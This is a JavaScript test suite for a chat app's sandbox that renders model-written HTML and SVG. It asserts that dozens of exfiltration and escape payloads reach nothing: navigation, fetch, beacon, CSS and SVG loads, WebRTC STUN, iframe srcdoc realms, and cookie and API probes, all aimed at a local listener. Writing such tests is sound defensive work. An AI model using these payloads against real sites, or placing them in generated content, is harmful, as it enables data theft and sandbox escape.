// SPDX-License-Identifier: MIT
// What models write as HTML, SVG or a diagram runs where it reaches nothing: attacked.
import assert from 'node:assert/strict';
import dgram from 'node:dgram';
import net from 'node:net';
import { test } from 'node:test';
import { base, openChat, withSources } from './browser.mjs';

/** A host that must never hear anything. */
async function outside(t)
{
	const heard = [];
	const sockets = [];
	const tcp = net.createServer((socket) => {
		sockets.push(socket);
		heard.push('a connection');
		socket.on('error', () => {});
		socket.on('data', (data) => heard.push(String(data).slice(0, 80)));
	});
	const udp = dgram.createSocket('udp4');

	udp.on('message', () => heard.push('a datagram'));
	await new Promise((done) => { tcp.listen(0, '127.0.0.1', done); });
	await new Promise((done) => { udp.bind(tcp.address().port, '127.0.0.1', done); });
	t.after(() => {
		for (const socket of sockets)
			socket.destroy();
		tcp.close();
		udp.close();
	});

	return { heard, host: `127.0.0.1:${tcp.address().port}` };
}

/** Opens the chat; what the browser says about the attacks, and that it asks, is no fault. */
async function chat(t)
{
	const page = await openChat(t, { init: withSources });

	page.removeAllListeners('console');
	page.removeAllListeners('request');
	page.removeAllListeners('pageerror');
	return page;
}

/** Shows content in a sandbox. @returns what it says to its parent until it says 'end' */
function says(page, html, { own = false, ms = 1500 } = {})
{
	return page.evaluate(async ([content, trusted, wait]) => {
		const { confined, openSandbox } = await import('./sources/js/sandbox.js');
		const box = document.createElement('div');
		const all = [];

		document.body.append(box);
		await new Promise((done) => {
			setTimeout(done, wait);
			openSandbox(box, confined(content), { own: trusted, title: 'x', said: (data) => {
				all.push(data);
				if (data === 'end')
					setTimeout(done, 300);
			} });
		});
		box.remove();
		return all;
	}, [html, own, ms]);
}

async function until(holds)
{
	for (const end = Date.now() + 10000; !holds(); await new Promise(setImmediate))
		assert.ok(Date.now() < end);
}

const WAYS = (host) => [
	`<script>location = 'http://${host}/nav'</script>`,
	`<script>location.replace('http://${host}/nav?' + document.body.innerText)</script>`,
	`<script>location = '/chat/api/v1/me'</script>`,
	`<script>history.pushState(0, '', 'http://${host}/')</script>`,
	`<meta http-equiv=refresh content="0;url=http://${host}/meta">`,
	`<script>const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://${host}/'; document.head.append(m)</script>`,
	`<script>open('http://${host}/open')</script>`,
	`<script>try { top.location = 'http://${host}/top' } catch {} try { parent.location = 'http://${host}/p' } catch {}</script>`,
	`<a id=a target=_top href="http://${host}/a" ping="http://${host}/ping">x</a><script>a.click()</script>`,
	`<a id=a href="http://${host}/a" download>x</a><script>a.click()</script>`,
	`<form action="http://${host}/form"><input name=a></form><script>document.forms[0].submit()</script>`,
	`<script>location = 'data:text/html,<script>fetch("http://${host}/")<\\/script>'</script>`,
	`<script>location = URL.createObjectURL(new Blob(['<script>fetch("http://${host}/")<\\/script>'], { type: 'text/html' }))</script>`,
	`<script>fetch('http://${host}/f').catch(() => 0); new Image().src = 'http://${host}/i';
		navigator.sendBeacon('http://${host}/b'); try { new WebSocket('ws://${host}/') } catch {}
		try { new EventSource('http://${host}/e') } catch {}
		try { new Worker(URL.createObjectURL(new Blob(['fetch("http://${host}/w")']))) } catch {}
		try { new SharedWorker('data:text/javascript,fetch("http://${host}/w")') } catch {}
		import('http://${host}/m.js').catch(() => 0)</script>`,
	`<script src="http://${host}/s.js"></script><script type=module>import 'http://${host}/m.js'</script>`,
	`<link rel=preconnect href="http://${host}"><link rel=dns-prefetch href="//${host}"><link rel=prefetch href="http://${host}/"><link rel=preload as=image href="http://${host}/"><link rel=stylesheet href="http://${host}/">`,
	`<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://${host}/s"]}]}</script>`,
	`<style>@import "http://${host}/c"; @font-face { font-family: x; src: url(http://${host}/f) } body { background: url(http://${host}/b); font-family: x }</style>x`,
	`<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('http://${host}/')"><image href="http://${host}/i"/><use href="http://${host}/u#x"/><script>fetch('http://${host}/')</script><foreignObject><iframe src="http://${host}/"></iframe></foreignObject></svg>`,
	`<iframe src="http://${host}/i"></iframe><object data="http://${host}/o"></object><embed src="http://${host}/e"><video src="http://${host}/v" poster="http://${host}/p"></video><audio src="http://${host}/a"></audio>`,
	`<script>new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] })</script>`,
];

test('nothing of the content reaches another host', async (t) => {
	const page = await chat(t);
	const { heard, host } = await outside(t);
	const address = page.url();

	for (const way of WAYS(host)) {
		await says(page, `secret${way}<script>setTimeout(() => parent.postMessage('end', '*'), 50)</script>`,
			{ ms: 900 });
		assert.deepEqual(heard, [], way);
		assert.equal(page.url(), address, way);
		assert.equal(page.context().pages().length, 1, way);
	}
});

/** Ways to a global object that has WebRTC again. */
const REALMS = (host) => {
	const run = `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] });` +
		'c.createDataChannel(1); c.createOffer().then((o) => c.setLocalDescription(o))';
	const inner = `&lt;script>${run}&lt;/script>`;
	const code = `<script>${run}<\\/script>`;

	return [
		`<script>${run}</script>`,
		`<iframe srcdoc="${inner}"></iframe>`,
		`<IFRAME\nsrcdoc="${inner}">`, `<svg><desc><iframe srcdoc="${inner}"></iframe></desc></svg>`,
		`<frameset><frame src="javascript:${run}"></frameset>`,
		`<template shadowrootmode=open></template><div><template shadowrootmode=open><iframe srcdoc="${inner}"></iframe></template></div>`,
		`<script>const f = document.createElement('iframe'); document.body.append(f);
			new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] }).createDataChannel(1)</script>`,
		`<script>const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'h:iframe'); f.srcdoc = '${code}'; document.body.append(f)</script>`,
		`<script>let n = 0; const f = document.createElement({ toString: () => n++ ? 'iframe' : 'b' }); f.srcdoc = '${code}'; document.body.append(f)</script>`,
		`<script>RegExp.prototype.exec = () => null; RegExp.prototype.test = () => false; String.prototype.replace = function () { return this };
			Function.prototype.apply = function () { return this }; Reflect.apply = () => 0;
			const f = document.createElement('iframe'); f.srcdoc = '${code}'; document.body.append(f);
			document.body.innerHTML += '<iframe srcdoc="${inner}"></iframe>'</script>`,
		`<script>delete Document.prototype.createElement; delete document.createElement;
			const f = document.createElement('iframe'); f.srcdoc = '${code}'; document.body.append(f)</script>`,
		`<div id=d></div><script>d.innerHTML = '<iframe srcdoc="${inner}"></iframe>'</script>`,
		`<div id=d></div><script>d.insertAdjacentHTML('afterend', '<iframe srcdoc="${inner}"></iframe>')</script>`,
		`<div id=d></div><script>d.setHTMLUnsafe('<iframe srcdoc="${inner}"></iframe>')</script>`,
		`<div id=d></div><script>d.outerHTML = '<iframe srcdoc="${inner}"></iframe>'</script>`,
		`<script>document.body.append(document.createRange().createContextualFragment('<iframe srcdoc="${inner}"></iframe>'))</script>`,
		`<script>document.body.append(Document.parseHTMLUnsafe('<iframe srcdoc="${inner}"></iframe>').body.firstChild)</script>`,
		`<script>const x = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'html');
			x.documentElement.innerHTML = '<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="${inner.replaceAll('>', '&gt;')}"/>'; document.body.append(x.documentElement.firstChild)</script>`,
		`<script>document.body.append(new DOMParser().parseFromString('<iframe srcdoc="${inner}"></iframe>', 'text/html').body.firstChild)</script>`,
		`<script>document.write('<ifr'); document.write('ame srcdoc="${inner}"></iframe>')</script>`,
		`<script>document.open(); document.write('<iframe srcdoc="${inner}">')</script>`,
		`<body contenteditable><script>document.body.focus(); document.execCommand('insertHTML', false, '<iframe srcdoc="${inner}"></iframe>')</script>`,
		`<script>location = 'javascript:\\'<script>${run.replaceAll("'", '&quot;')}<\\\\/script>\\''</script>`,
		`<a id=a href="javascript:'${inner}'">x</a><script>a.click()</script>`,
		`<script>location = 'about:blank'</script>`, `<script>location.reload()</script>`,
		`<script>const x = new XSLTProcessor()</script>`,
		`<object data="data:text/html,${code}"></object><embed src="data:text/html,${code}">`,
		`<script>const s = document.createElementNS('http://www.w3.org/2000/svg', 'foreignObject'); s.innerHTML = '<iframe srcdoc="${inner}"></iframe>'; const g = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); g.append(s); document.body.append(g)</script>`,
		`<script>eval("${'1'}"); new Function('${'1'}')</script>`,
		`<script>for (const w of [parent, top, parent.frames[0]]) { try { new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] }).createDataChannel(1) } catch {} }</script>`,
	];
};

test('no way leads back to what the content was denied', async (t) => {
	const page = await chat(t);
	const { heard, host } = await outside(t);

	// the attack works where nothing is taken away
	await page.evaluate(async (run) => {
		const { openSandbox } = await import('./sources/js/sandbox.js');
		const box = document.body.appendChild(document.createElement('div'));

		openSandbox(box, run, { title: 'x' });
	}, REALMS(host)[0]);
	await until(() => heard.length > 0);
	await page.reload();
	await page.waitForSelector('.composer-field');
	heard.length = 0;
	for (const way of REALMS(host)) {
		await says(page, `<p>x</p>${way}<script>parent.postMessage('end', '*')</script>`, { ms: 700 });
		assert.deepEqual(heard, [], way);
	}
	assert.deepEqual(await says(page, `<p>x</p><script>
		parent.postMessage([typeof RTCPeerConnection, typeof XSLTProcessor, frames.length], '*');
		document.body.innerHTML = '<b onclick="this.title = 1">x</b><iframe></iframe>';
		document.querySelector('b').click();
		parent.postMessage([document.querySelector('b').title, frames.length,
			document.querySelectorAll('iframe').length], '*'); parent.postMessage('end', '*')</script>`),
	[['undefined', 'undefined', 0], ['1', 0, 0], 'end']);
});

test('the content is nobody to the page, the API and the browser', async (t) => {
	const page = await chat(t);

	await page.context().addCookies([{ name: 'secret', value: 'x', url: base }]);
	await page.evaluate(() => {
		window.heard = [];
		addEventListener('message', ({ data }) => window.heard.push(data));
		localStorage.setItem('lamplighter.probe', '1');
	});
	const before = await page.evaluate(() => document.querySelector('#main').innerHTML.length);
	const said = await says(page, `<script>(async () => {
		const tell = (what) => parent.postMessage(what, '*');
		const tried = async (name, run) => { try { await run(); tell(name) } catch (error) { tell(error.name) } };

		await tried('dom', () => top.document.title);
		await tried('outer', () => parent.document.title);
		await tried('cookie', () => document.cookie);
		await tried('storage', () => localStorage.length);
		await tried('idb', () => new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = () => no(r.error) }));
		await tried('caches', () => caches.keys());
		await tried('api', () => fetch('${base}api/v1/me', { credentials: 'include' }));
		await tried('clipboard', () => navigator.clipboard.readText());
		await tried('place', () => new Promise((yes, no) => { navigator.geolocation.getCurrentPosition(yes, (e) => no(new DOMException('', 'Denied'))) }));
		await tried('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
		await tried('push', () => navigator.serviceWorker.register('/x.js'));
		tell(self.origin);
		top.postMessage({ type: 'lamp-send', content: 'evil' }, '*');
		top.postMessage('evil', '*');
		top.dispatchEvent;
		tell('end');
	})().catch((error) => { parent.postMessage(error.name, '*'); parent.postMessage('end', '*') })</script>`, { ms: 6000 });

	for (const name of ['dom', 'outer', 'cookie', 'storage', 'idb', 'caches', 'api', 'clipboard', 'place', 'camera', 'push'])
		assert.ok(!said.includes(name), `${name}: ${said}`);
	assert.ok(said.includes('SecurityError'));
	// the page hears it as a window may, and does nothing about it
	assert.equal(await page.evaluate(() => document.querySelector('#main').innerHTML.length), before);
	assert.equal(await page.evaluate(() => localStorage.getItem('lamplighter.probe')), '1');
});

test('the frame has a policy of its own, whoever asks for it', async () => {
	const response = await fetch(`${base}api/v1/frame`);
	const policy = response.headers.get('content-security-policy');

	assert.equal(response.status, 200);
	assert.match(response.headers.get('content-type'), /^text\/html/);
	for (const part of [/^sandbox allow-scripts;/, /default-src 'none'/, /frame-src 'none'/,
		/form-action 'none'/, /frame-ancestors 'self'/, /require-trusted-types-for 'script'/])
		assert.match(policy, part);
	assert.doesNotMatch(policy, /allow-same-origin|https?:|'self'(?<!frame-ancestors 'self')|\*/);
});
